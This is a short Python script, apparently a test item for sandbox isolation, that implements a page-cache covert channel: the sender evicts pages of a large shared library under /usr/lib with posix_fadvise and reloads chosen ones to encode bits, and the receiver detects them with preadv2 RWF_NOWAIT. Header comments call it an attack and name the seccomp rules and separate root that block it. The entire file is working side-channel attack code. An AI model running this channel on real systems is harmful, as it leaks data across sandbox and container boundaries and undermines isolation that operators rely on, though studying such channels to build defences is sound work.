# attack: pages of a large file under /usr, thrown out of the page cache and read again, found by RWF_NOWAIT
# wall: seccomp: fadvise, flags of preadv2; a root of its own

import os
import time


def large_file():
    for folder, _, names in os.walk("/usr/lib"):
        for name in sorted(names):
            path = os.path.join(folder, name)
            if ".so" in name and os.path.isfile(path) and os.path.getsize(path) > 16 << 20:
                file = os.open(path, os.O_RDONLY)
                os.posix_fadvise(file, 0, 0, os.POSIX_FADV_RANDOM)
                return file


def send(bits):
    file = large_file()
    for _ in range(3):  # pages on their way into the cache's lists stay at first
        os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
        time.sleep(0.05)
    for n, bit in enumerate(bits):
        if bit:
            os.pread(file, 1, (100 + 4 * n) << 12)


def receive(count):
    file = large_file()

    def lies_there(page):
        try:
            return os.preadv(file, [bytearray(1)], page << 12, os.RWF_NOWAIT) == 1
        except BlockingIOError:
            return 0

    return [int(lies_there(100 + 4 * n)) for n in range(count)]
